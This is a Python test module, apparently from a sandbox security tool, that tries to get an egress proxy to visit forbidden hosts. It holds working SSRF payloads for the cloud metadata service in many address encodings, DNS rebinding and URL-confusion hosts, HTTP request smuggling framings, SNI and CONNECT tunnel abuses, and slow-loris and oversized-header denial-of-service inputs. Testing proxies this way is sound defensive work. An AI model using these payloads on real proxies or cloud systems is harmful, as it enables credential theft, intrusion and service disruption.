"""The one way out: talking the proxy into visiting what is not allowed."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from contextlib import suppress

from holdfast.core.error import HoldfastError
from holdfast.ports.egress import Request

from .field import Field, Heard, Trial, Way, trial
from .inside.attack import Blocked, NotHere
from .world import REACH, Visit, requests_in

_AUTH = "{auth}"
_ANSWERS = 3.0
_SLOW = 20.0
_NOBODYS = "Proxy-Authorization: Basic dGFzazp3cm9uZw=="

Step = dict[str, str]
Judge = Callable[[Sequence[Visit]], str]


def say(*lines: str, body: str = "", end: str = "\r\n") -> Step:
    """A request as it is written on the wire; `{auth}` is the box's own token."""
    return {"say": end.join((*lines, "", "")) + body}


def hear(seconds: float = _ANSWERS) -> Step:
    return {"hear": str(seconds)}


def _forbidden(visits: Sequence[Visit]) -> str:
    """Won if anything was visited that is not allowed."""
    for each in visits:
        if each.forbidden:
            return f"the proxy went to {each.address}:{each.port}"
    return ""


def _anything(visits: Sequence[Visit]) -> str:
    return f"the proxy went to {visits[0].address}:{visits[0].port}" if visits else ""


def _smuggled(visits: Sequence[Visit]) -> str:
    """Won if a server of either kind finds the hidden request, or a visit is forbidden."""
    for each in visits:
        for first in (True, False):
            found = requests_in(bytes(each.said), chunked_first=first)
            if any(target.endswith("/smuggled") for target in found):
                return "a server found a request that the proxy had not seen"
    return _forbidden(visits)


def _whispered(word: str) -> Judge:
    """Won if a word reached a server on the allowed address."""

    def judge(visits: Sequence[Visit]) -> str:
        for each in visits:
            if word.encode() in bytes(each.said).lower():
                return f"a server heard {word!r}"
        return _forbidden(visits)

    return judge


def _way(field: Field) -> Way:
    if field.way is None:
        raise NotHere(field.no_way)
    field.way.world.visits.clear()
    return field.way


async def talk(field: Field, steps: Sequence[Step], judge: Judge) -> str:
    """Say it from inside the box; won if the servers of the world saw what they should not."""
    way = _way(field)
    heard = await _talked(way, steps)
    if won := judge(way.world.visits):
        return won
    first = heard.heard.decode(errors="replace").partition("\r\n")[0]
    raise Blocked(first or heard.why or "the proxy ended it without a word")


async def _talked(way: Way, steps: Sequence[Step]) -> Heard:
    """With the box's own token where a step asks for it."""
    return await way.talk(
        [{name: text.replace(_AUTH, way.authorization) for name, text in s.items()} for s in steps]
    )


def _said(name: str, tries: str, steps: Sequence[Step], judge: Judge) -> Trial:
    async def run(field: Field) -> str:
        return await talk(field, steps, judge)

    return Trial(name=name, tries=tries, wall="network", run=run)


def _get(url: str, *more: str) -> list[Step]:
    host = url.partition("//")[2].partition("/")[0]
    return [say(f"GET {url} HTTP/1.1", f"Host: {host}{_rest(*more)}", _AUTH), hear()]


def _rest(*lines: str) -> str:
    return "".join(f"\r\n{each}" for each in lines)


def _connect(target: str, sni: str | None = None) -> list[Step]:
    steps = [say(f"CONNECT {target} HTTP/1.1", f"Host: {target}", _AUTH), hear()]
    return steps if sni is None else [*steps, {"tls": sni}]


_METADATA_SPELLINGS = {
    "plain": "169.254.169.254",
    "decimal": "2852039166",
    "octal": "0251.0376.0251.0376",
    "hex": "0xa9fea9fe",
    "mixed": "0xa9.254.0251.254",
    "short": "169.254.43518",
    "padded": "169.254.169.0000254",
    "mapped": "[::ffff:169.254.169.254]",
    "mapped_hex": "[::ffff:a9fe:a9fe]",
    "ipv6": "[fd00:ec2::254]",
    "zone": "[fe80::a9fe:a9fe%25eth0]",
    "name": "metadata.google.internal",
    "short_name": "metadata",
    "nip": "169-254-169-254.nip.wild.example",
    "fullwidth": "169\u3002254\uff0e169\uff61254",
    "circled": "\u2460\u2465\u2468.254.169.254",
    "trailing_dot": "169.254.169.254.",
}
_REBINDING = {
    "loopback": "loop",
    "metadata": "meta",
    "lan": "lan",
    "mapped": "mapped",
    "nat64": "nat64",
    "sixtofour": "sixtofour",
    "local6": "local6",
    "zero": "zero",
    "shared": "shared",
    "mixed": "mixed",
}
_ODD_HOSTS = {
    "userinfo": "http://allowed.example@evil.example/open/",
    "userinfo_port": "http://allowed.example:80@evil.example:80/open/",
    "backslash": "http://evil.example\\@allowed.example/open/",
    "fragment": "http://evil.example#@allowed.example/open/",
    "percent_nul": "http://evil.example%00.wild.example/",
    "nul": "http://evil.example\0.wild.example/",
    "tab": "http://evil.example\t.wild.example/",
    "punycode": "http://xn--llowed-8ta.example/open/",
    "unicode_dot": "http://evil\u3002example/open/",
    "suffix": "http://allowed.example.evil.example/open/",
    "prefix": "http://evilwild.example/",
    "uppercase": "http://EVIL.EXAMPLE/open/",
    "trailing_dot": "http://evil.example./open/",
    "wildcard_itself": "http://*.wild.example/",
    "empty_label": "http://evil.example..wild.example/",
    "other_port": "http://allowed.example:8080/open/",
    "port_overflow": "http://allowed.example:65558/open/",
    "localhost": "http://localhost/",
    "path_climb": "http://allowed.example/open/../smuggled",
    "path_encoded": "http://allowed.example/open/%2e%2e/smuggled",
    "method": "http://allowed.example/smuggled",
}

metadata = tuple(
    _said(
        f"metadata_{name}",
        f"Ask for the cloud's credentials, spelled {host!a}",
        _get(f"http://{host}/latest/meta-data/"),
        _forbidden,
    )
    for name, host in _METADATA_SPELLINGS.items()
)
rebinding = tuple(
    _said(
        f"rebind_{name}",
        f"Have an allowed name lead to an address of the kind {name}",
        _get(f"http://{host}.wild.example/"),
        _forbidden,
    )
    for name, host in _REBINDING.items()
)
odd_hosts = tuple(
    _said(
        f"host_{name}",
        "Have the proxy and the policy read an address differently: "
        + url.encode("unicode_escape").decode(),
        _get(url),
        _whispered("/smuggled") if "smuggled" in url or ".." in url else _forbidden,
    )
    for name, url in _ODD_HOSTS.items()
)
_HIDDEN = "GET /smuggled HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
_POST = ("POST http://allowed.example/open/a HTTP/1.1", "Host: allowed.example", _AUTH)
_framing: dict[str, tuple[str, Step]] = {
    "cl_te": (
        "Hide a request behind a length and chunks",
        say(
            *_POST,
            f"Content-Length: {len(_HIDDEN) + 5}",
            "Transfer-Encoding: chunked",
            body="0\r\n\r\n" + _HIDDEN,
        ),
    ),
    "te_cl": (
        "Hide a request in a chunk behind a short length",
        say(
            *_POST,
            "Content-Length: 4",
            "Transfer-Encoding: chunked",
            body=f"{len(_HIDDEN):x}\r\n{_HIDDEN}\r\n0\r\n\r\n",
        ),
    ),
    "te_te": (
        "Hide a request behind a coding that is spelled oddly",
        say(
            *_POST,
            "Transfer-Encoding: xchunked",
            f"Content-Length: {len(_HIDDEN) + 5}",
            "Transfer-encoding: chunked",
            body="0\r\n\r\n" + _HIDDEN,
        ),
    ),
    "double_length": (
        "Hide a request behind two lengths",
        say(*_POST, "Content-Length: 0", f"Content-Length: {len(_HIDDEN)}", body=_HIDDEN),
    ),
    "length_list": (
        "Hide a request behind a list of lengths",
        say(*_POST, f"Content-Length: 0, {len(_HIDDEN)}", body=_HIDDEN),
    ),
    "length_sign": (
        "Hide a request behind a length with a sign",
        say(*_POST, f"Content-Length: +{len(_HIDDEN)}", body=_HIDDEN),
    ),
    "obs_fold": (
        "Hide a coding in a folded line",
        say(
            *_POST,
            "X-A: b\r\n Transfer-Encoding: chunked",
            f"Content-Length: {len(_HIDDEN) + 5}",
            body="0\r\n\r\n" + _HIDDEN,
        ),
    ),
    "space_before_colon": (
        "Hide a coding behind a space before the colon",
        say(
            *_POST,
            "Transfer-Encoding : chunked",
            f"Content-Length: {len(_HIDDEN) + 5}",
            body="0\r\n\r\n" + _HIDDEN,
        ),
    ),
    "bare_lf": (
        "End lines by a line feed alone",
        say(*_POST, "Content-Length: 0", body=_HIDDEN.replace("\r\n", "\n"), end="\n"),
    ),
    "header_newline": (
        "Put a line end into a header's value",
        say(*_POST, f"X-A: b\r\r\n\r\n{_HIDDEN}"),
    ),
    "pipelined": (
        "Send a second request behind an allowed one",
        {"say": say(*_POST, "Content-Length: 0")["say"] + _HIDDEN},
    ),
    "pipelined_elsewhere": (
        "Send a request for another host behind an allowed one",
        {
            "say": say(*_POST, "Content-Length: 0")["say"]
            + "GET http://evil.example/smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"
        },
    ),
}
smuggling = tuple(
    _said(f"smuggle_{name}", tries, [step, hear()], _smuggled)
    for name, (tries, step) in _framing.items()
)
names = (
    _said(
        "sni_mismatch",
        "Open a tunnel to an allowed host and ask for another name in TLS",
        _connect("allowed.example:443", "evil.example"),
        _whispered("evil.example"),
    ),
    _said(
        "sni_missing",
        "Open a tunnel to an allowed host and ask for no name in TLS",
        _connect("allowed.example:443", ""),
        _whispered("\x16"),
    ),
    _said(
        "tunnel_not_tls",
        "Open a tunnel to an allowed host and speak something else than TLS",
        [
            *_connect("allowed.example:443"),
            say("GET /smuggled HTTP/1.1", "Host: evil.example"),
            hear(1.0),
        ],
        _smuggled,
    ),
    _said(
        "host_mismatch",
        "Name an allowed host in the address and another in the header",
        [say("GET http://allowed.example/open/ HTTP/1.1", "Host: evil.example", _AUTH), hear()],
        _whispered("evil.example"),
    ),
    _said(
        "host_twice",
        "Name two hosts in two headers",
        [
            say(
                "GET http://allowed.example/open/ HTTP/1.1",
                "Host: allowed.example",
                "Host: evil.example",
                _AUTH,
            ),
            hear(),
        ],
        _whispered("evil.example"),
    ),
    _said(
        "origin_form",
        "Ask without an address, the host in the header alone",
        [say("GET /smuggled HTTP/1.1", "Host: evil.example", _AUTH), hear()],
        _forbidden,
    ),
    _said(
        "connect_ssh",
        "Open a tunnel to the port of SSH",
        _connect("allowed.example:22"),
        _forbidden,
    ),
    _said(
        "connect_elsewhere",
        "Open a tunnel to a host that is not allowed",
        _connect("evil.example:443", "evil.example"),
        _forbidden,
    ),
    _said(
        "connect_address",
        "Open a tunnel to an address",
        _connect("169.254.169.254:443"),
        _forbidden,
    ),
    _said(
        "connect_plain_port",
        "Open a tunnel to the port of plain requests, past the rules for paths",
        [*_connect("allowed.example:80"), say("GET /smuggled HTTP/1.1", "Host: x"), hear(1.0)],
        _smuggled,
    ),
    _said(
        "connect_zero",
        "Open a tunnel without a port",
        _connect("evil.example"),
        _forbidden,
    ),
    _said(
        "websocket_elsewhere",
        "Ask for a web socket on a host that is not allowed",
        _get(
            "http://evil.example/ws",
            "Connection: Upgrade",
            "Upgrade: websocket",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        ),
        _forbidden,
    ),
    _said(
        "upgrade_smuggling",
        "Ask an allowed host to speak another protocol, and then for what is not allowed",
        [
            *_get("http://allowed.example/open/", "Connection: Upgrade", "Upgrade: h2c"),
            {"say": _HIDDEN},
            hear(1.0),
        ],
        _smuggled,
    ),
    _said(
        "no_token",
        "Use the proxy without the box's token",
        [say("GET http://allowed.example/open/ HTTP/1.1", "Host: allowed.example"), hear()],
        _anything,
    ),
    _said(
        "wrong_token",
        "Use the proxy with the token of nobody",
        [
            say(
                "GET http://allowed.example/open/ HTTP/1.1",
                "Host: allowed.example",
                _NOBODYS,
            ),
            hear(),
        ],
        _anything,
    ),
)


@trial("network")
async def token_leaks(field: Field) -> str:
    """Learn the token that the proxy is given, on a server that is allowed."""
    token = _way(field).authorization.rpartition(" ")[2].lower()
    return await talk(field, _get("http://allowed.example/open/"), _whispered(token))


@trial("network")
async def rebind_second_look(field: Field) -> str:
    """Have a name lead to a good address when it is checked and to another when it is dialled."""
    for _ in range(2):
        with suppress(Blocked):
            return await talk(field, _get("http://flip.wild.example/"), _forbidden)
    return await talk(field, _get("http://flip.wild.example/"), _forbidden)


@trial("network")
async def redirect_private(field: Field) -> str:
    """Have our own fetching follow a redirect to the cloud's metadata service."""
    way = _way(field)
    try:
        await way.egress.fetch(Request(url="http://redirect.wild.example/"), REACH)
    except HoldfastError as error:
        if not _forbidden(way.world.visits):
            raise Blocked(str(error)) from error
    if won := _forbidden(way.world.visits):
        return won
    raise Blocked("the redirect was not followed")


@trial("network")
async def slow_loris(field: Field) -> str:
    """Keep the proxy busy by a request that never ends."""
    steps = [{"say": "GET http://allowed.example/open/ HTTP/1.1\r\nX-A: "}, hear(_SLOW)]
    heard = await _talked(_way(field), steps)
    if heard.seconds >= _SLOW:
        return f"the proxy still waits after {_SLOW:g} s"
    raise Blocked(f"the proxy ended it after {heard.seconds:.0f} s")


@trial("network")
async def endless_header(field: Field) -> str:
    """Fill the proxy's memory by a header without end."""
    steps = [
        {"say": "GET http://allowed.example/open/ HTTP/1.1\r\nHost: allowed.example\r\nX-A: "},
        {"say": "a" * (4 << 20)},
        say("", _AUTH),
        hear(),
    ]
    return await talk(field, steps, _anything)
